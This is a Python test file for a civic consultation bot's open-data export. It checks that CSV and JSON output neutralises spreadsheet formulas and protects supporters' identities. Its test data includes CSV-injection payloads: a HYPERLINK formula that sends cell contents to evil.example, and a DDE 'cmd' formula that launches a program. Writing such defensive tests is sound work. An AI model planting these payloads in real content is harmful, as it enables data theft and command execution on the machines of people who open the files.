"""Open-data exports: /export (moderators) and `parlons export SLUG`, CSV and JSON, formulas
neutralised in both, pseudonymous authors, never who supported what."""

from __future__ import annotations

import csv
import io
import json

from typer.testing import CliRunner

from bot.cli import app as cli
from storage.models import Citizen
from tests.support.moderation import (
    ADMIN,
    chats,
    contribute,
    rows,
)

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+33 6 12 34 56 78 mais aussi =1+1",
    "-2+3 idées",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "Une idée sans danger",  # hidden below
]


def _csv(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8").removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(text)))


def _files(replies):  # type: ignore[no-untyped-def]
    return {m.attachment.filename: m.attachment.data for m in replies if m.attachment}


def _scenario(app):  # type: ignore[no-untyped-def]
    chat = chats(app)
    for n, text in enumerate(DANGEROUS):
        contribute(chat(f"author{n}"), text, None)
    chat("supporter").send("/support 1")
    chat("supporter").send("/support 2")
    chat("fan").send("/support 1")
    chat("critic").send("/comment 1 =2*3 en commentaire")
    chat("critic").send("/comment 2 Un avis sans danger")
    chat(ADMIN).send("/hide 6 personal")  # hidden: counted as such, its text not published
    chat(ADMIN).send("/hide c2 offtopic")


def test_export_neutralises_formulas_in_csv_and_json(mapp):
    _scenario(mapp)
    chats(mapp)(ADMIN).send("/answer 1 accepted =1+1 au budget")  # official answers (issue 15)
    replies = chats(mapp)(ADMIN).send("/export")
    files = _files(replies)
    answers = _csv(files["ville-intelligente-answers.csv"])
    assert [a["text"] for a in answers] == ["'=1+1 au budget"]
    assert sorted(files) == [
        "ville-intelligente-answers.csv",
        "ville-intelligente-comments.csv",
        "ville-intelligente-contributions.csv",
        "ville-intelligente-sources.csv",
        "ville-intelligente-statistics.csv",
        "ville-intelligente.json",
    ]
    contributions = _csv(files["ville-intelligente-contributions.csv"])
    texts = [c["text"] for c in contributions]
    assert texts[:5] == ["'" + t for t in DANGEROUS[:5]]  # (texts are stripped when written)
    assert texts[5] == "" and contributions[5]["status"] == "hidden"
    for row in contributions:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    comments = _csv(files["ville-intelligente-comments.csv"])
    assert [(c["text"], c["status"]) for c in comments] == [
        ("'=2*3 en commentaire", "published"),
        ("", "hidden"),
    ]
    data = json.loads(files["ville-intelligente.json"])
    assert data["format"] == "parlons-open-data/1"
    assert [c["text"] for c in data["contributions"]][:5] == ["'" + t for t in DANGEROUS[:5]]
    assert data["comments"][0]["text"] == "'=2*3 en commentaire"

    def walk(value):  # type: ignore[no-untyped-def]
        if isinstance(value, dict):
            for v in value.values():
                yield from walk(v)
        elif isinstance(value, list):
            for v in value:
                yield from walk(v)
        elif isinstance(value, str):
            yield value

    assert not [v for v in walk(data) if v.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_export_counts_and_never_who_supported_what(mapp):
    _scenario(mapp)
    data = json.loads(_files(chats(mapp)(ADMIN).send("/export"))["ville-intelligente.json"])
    by_id = {c["contribution_id"]: c for c in data["contributions"]}
    assert (by_id[1]["supports"], by_id[1]["comments"]) == (2, 1)
    assert (by_id[2]["supports"], by_id[2]["comments"]) == (1, 0)  # its comment is hidden
    stats = data["statistics"]
    published = [c for c in data["contributions"] if c["status"] == "published"]
    assert stats["contributions"] == len(published) == 5
    assert stats["supports"] == sum(c["supports"] for c in published) == 3
    assert stats["comments"] == sum(c["comments"] for c in published) == 1
    pseudonyms = {c.platform_user_id: c.pseudonym for c in rows(mapp, Citizen)}
    assert by_id[1]["author"] == pseudonyms["author0"]
    blob = json.dumps(data) + "".join(
        f.decode() for n, f in _files(chats(mapp)(ADMIN).send("/export")).items()
    )
    # Supporters appear nowhere (only counts); no platform identity either.
    assert pseudonyms["supporter"] not in blob and pseudonyms["fan"] not in blob
    assert "author0" not in blob and "console" not in blob


def test_export_is_for_moderators_and_audited(sapp):
    chat = chats(sapp)
    assert "reserved for the consultation's moderators" in chat("citizen").send("/export").text
    chat(ADMIN).send("/export")
    assert "export consultation:ville-intelligente" in chat(ADMIN).send("/audit").text


def test_cli_export_writes_the_same_files(sapp, sqlite_url, tmp_path):
    _scenario(sapp)
    out = tmp_path / "out"
    env = {"PARLONS_DATABASE_URL": sqlite_url, "PARLONS_LOG_LEVEL": "WARNING"}
    result = CliRunner().invoke(cli, ["export", "ville-intelligente", "--out", str(out)], env=env)
    assert result.exit_code == 0, result.output
    written = {p.name: p.read_bytes() for p in out.iterdir()}
    assert sorted(written) == sorted(_files(chats(sapp)(ADMIN).send("/export")))
    contributions = _csv(written["ville-intelligente-contributions.csv"])
    assert contributions[0]["text"] == "'" + DANGEROUS[0]
    result = CliRunner().invoke(cli, ["export", "nope"], env=env)
    assert result.exit_code == 1


def test_tabs_and_carriage_returns_are_neutralised_in_both_formats():
    from datetime import UTC, datetime

    from bot.exports import OpenData

    now = datetime(2019, 8, 19, tzinfo=UTC)
    row = {
        "comment_id": 1,
        "contribution_id": 1,
        "author": "\tabc",
        "text": "\r=1+1",
        "status": "published",
        "created_at": now.isoformat(),
    }
    data = OpenData({"slug": "x", "title": "+title"}, now, {"days": 1}, [], [], [row])
    assert _csv(data.comments_csv())[0]["author"] == "'\tabc"
    assert _csv(data.comments_csv())[0]["text"] == "'\r=1+1"
    parsed = json.loads(data.to_json())
    assert parsed["comments"][0]["author"] == "'\tabc"
    assert parsed["comments"][0]["text"] == "'\r=1+1"
    assert parsed["consultation"]["title"] == "'+title"
